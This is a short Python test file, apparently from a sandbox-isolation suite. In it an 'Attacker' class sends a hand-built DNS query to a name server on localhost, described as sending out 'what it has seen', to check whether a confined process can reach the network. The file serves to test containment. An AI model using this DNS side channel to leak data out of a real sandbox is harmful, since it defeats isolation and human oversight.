"""Sends what it has seen in a question to a name server."""

import socket
from contextlib import suppress

from honest import Honest

EXPECT = "plays on"
NOT_HELD = {"process": "a process may use the network"}

QUESTION = b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"\x04seen\x07example\0" + b"\0\1\0\1"


class Attacker(Honest):
    def attack(self, state):
        for family in (socket.AF_INET, socket.AF_INET6):
            with suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sender:
                sender.connect(("127.0.0.1" if family == socket.AF_INET else "::1", int("@UDP@")))
                sender.send(QUESTION)
